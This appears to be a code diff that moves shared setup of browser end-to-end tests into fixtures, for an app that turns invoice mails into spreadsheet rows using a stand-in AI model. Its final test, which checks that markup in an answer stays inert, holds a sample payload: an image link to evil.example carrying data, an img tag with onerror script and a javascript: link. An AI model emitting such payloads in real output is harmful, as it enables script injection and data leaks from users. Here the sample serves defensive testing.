@@ -1,29 +1,7 @@
-import type { Browser } from "playwright-core";
-import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
-import { type ModelStandIn, startModelStandIn } from "../../backend/testing/model-stand-in.ts";
-import { type RunningApp, startApp } from "./app.ts";
-import { closePages, launchBrowser } from "./browser.ts";
-import { openSheet } from "./sheet-page.ts";
+import { expect } from "vitest";
+import { connectedTo, test } from "./test.ts";
 
-let app: RunningApp;
-let browser: Browser;
-let model: ModelStandIn;
-
-beforeAll(async () => {
-  model = await startModelStandIn();
-  const connection = { OPENAI_API_KEY: "test-key", OPENAI_BASE_URL: model.baseUrl, OPENAI_API: "responses" };
-  const settings = { ...connection, TURN_LEASE_MS: "3000" };
-  [app, browser] = await Promise.all([startApp(settings), launchBrowser()]);
-});
-beforeEach(() => {
-  model.requests.length = 0;
-});
-afterEach(() => closePages(browser));
-afterAll(async () => {
-  await browser.close();
-  await app.stop();
-  await model.close();
-});
+test.override("settings", ({ model }) => connectedTo(model));
 
 const mail = `Dear team, Nordlicht bills us EUR 1,240.00 under number 0004711, due on 2 April 2026.
 Baxter wants USD 860.50 for invoice 0098123 by 23 March 2026. ${"Please pay both in time. ".repeat(20)}`;
@@ -41,17 +19,15 @@ const invoices = {
   ],
 };
 
-test("the header names the model, and nothing says that none is connected", async () => {
-  const sheet = await openSheet(browser, app);
+test("the header names the model, and nothing says that none is connected", async ({ sheet }) => {
   await sheet.page.getByRole("main", { name: "playground" }).getByText("gpt-5-mini").waitFor();
   expect(await sheet.page.getByText("No model is connected").count()).toBe(0);
   expect(await sheet.sidebar.getByText("No model is connected").count()).toBe(0);
 });
 
-test("a question is answered with text that streams", async () => {
+test("a question is answered with text that streams", async ({ sheet, model }) => {
   const answer = `Paris. ${"It lies on the Seine. ".repeat(30)}`;
   model.set({ answer: () => ({ reply: answer, tables: [] }), delayMs: 60 });
-  const sheet = await openSheet(browser, app);
   await sheet.send("What is the capital of France?");
   await sheet.sidebar.getByText(/^Paris\. It lies/).waitFor();
   await sheet.button("Stop").waitFor();
@@ -60,13 +36,15 @@ test("a question is answered with text that streams", async () => {
   expect(said?.trim()).toBe(answer.trim());
 });
 
-test("rows stream in, are typed from the mail's own words and go into the sheet", async () => {
+test("rows stream in, are typed from the mail's own words and go into the sheet", async ({
+  sheet,
+  model,
+}) => {
   model.set({
     answer: () => ({ reply: "Two invoices.", tables: [invoices] }),
     delayMs: 160,
     deltaCharacters: 8,
   });
-  const sheet = await openSheet(browser, app);
   await sheet.paste(mail);
   await sheet.send("Number, amount and due date of every invoice");
   await sheet.card().getByRole("cell", { name: "0004711" }).waitFor();
@@ -82,10 +60,12 @@ test("rows stream in, are typed from the mail's own words and go into the sheet"
   expect(await sheet.shown("B2:B3")).toEqual([["€1,240.00"], ["$860.50"]]);
 });
 
-test("a value that is not in the source goes in blank, and the sidebar says so before", async () => {
+test("a value that is not in the source goes in blank, and the sidebar says so before", async ({
+  sheet,
+  model,
+}) => {
   const invented = { ...invoices, rows: [["0004711", "EUR 9,999.00", "2 April 2026"]] };
   model.set({ answer: () => ({ reply: "One invoice.", tables: [invented] }) });
-  const sheet = await openSheet(browser, app);
   await sheet.paste(mail);
   await sheet.send("The invoices");
   await sheet.card().getByText("1 to check").waitFor();
@@ -96,14 +76,13 @@ test("a value that is not in the source goes in blank, and the sidebar says so b
   expect(await sheet.values("A2:C2")).toEqual([["0004711", null, 46114]]);
 });
 
-test("Stop keeps the rows that came and says so", async () => {
+test("Stop keeps the rows that came and says so", async ({ sheet, model }) => {
   const rows = Array.from({ length: 40 }, (_, at) => [`${1_000 + at}`, "EUR 1.00", "2 April 2026"]);
   model.set({
     answer: () => ({ reply: "Many.", tables: [{ ...invoices, rows }] }),
     delayMs: 40,
     deltaCharacters: 16,
   });
-  const sheet = await openSheet(browser, app);
   await sheet.send("Forty invoices");
   await sheet.card().getByRole("cell", { name: "1001" }).waitFor();
   await sheet.button("Stop").click();
@@ -118,14 +97,17 @@ test("Stop keeps the rows that came and says so", async () => {
   await sheet.card().getByRole("cell", { name: "1001" }).waitFor();
 });
 
-test("a backend killed in the middle of an answer is told within 5 s, and Resume brings the same rows", async () => {
+test("a backend killed in the middle of an answer is told within 5 s, and Resume brings the same rows", async ({
+  sheet,
+  app,
+  model,
+}) => {
   const rows = Array.from({ length: 9 }, (_, at) => [`${1_000 + at}`, "EUR 1.00", "2 April 2026"]);
   model.set({
     answer: () => ({ reply: "Nine invoices.", tables: [{ ...invoices, rows }] }),
     delayMs: 300,
     deltaCharacters: 40,
   });
-  const sheet = await openSheet(browser, app);
   await sheet.send("The invoices, please");
   await sheet.card().getByRole("cell", { name: "1001" }).waitFor();
   await app.kill();
@@ -144,28 +126,25 @@ test("a backend killed in the middle of an answer is told within 5 s, and Resume
   await sheet.card().getByRole("cell", { name: "1001" }).waitFor();
 });
 
-test("a wrong key is said, and the model is asked once only", async () => {
+test("a wrong key is said, and the model is asked once only", async ({ sheet, model }) => {
   model.set({ fault: { kind: "status", status: 401, code: "invalid_api_key" } });
-  const sheet = await openSheet(browser, app);
   await sheet.send("What is the capital of France?");
   await sheet.alert("The model refused the server's key.").waitFor();
   expect(model.requests).toHaveLength(1);
   expect(await sheet.sidebar.getByText("test-key").count()).toBe(0);
 });
 
-test("an account without credit is said, and not asked again", async () => {
+test("an account without credit is said, and not asked again", async ({ sheet, model }) => {
   model.set({ fault: { kind: "status", status: 429, code: "insufficient_quota" } });
-  const sheet = await openSheet(browser, app);
   await sheet.send("What is the capital of France?");
   await sheet.alert("out of credit").waitFor();
   expect(model.requests).toHaveLength(1);
 });
 
-test("markup in an answer stays inert, and no picture is fetched", async () => {
+test("markup in an answer stays inert, and no picture is fetched", async ({ sheet, model }) => {
   const reply =
     '![x](https://evil.example/?d=1) <img src="https://evil.example/i" onerror="document.title=1"> [go](javascript:alert(1))';
   model.set({ answer: () => ({ reply, tables: [] }), deltaCharacters: 3 });
-  const sheet = await openSheet(browser, app);
   const requested: string[] = [];
   sheet.page.on("request", (request) => requested.push(request.url()));
   await sheet.send("Show me");
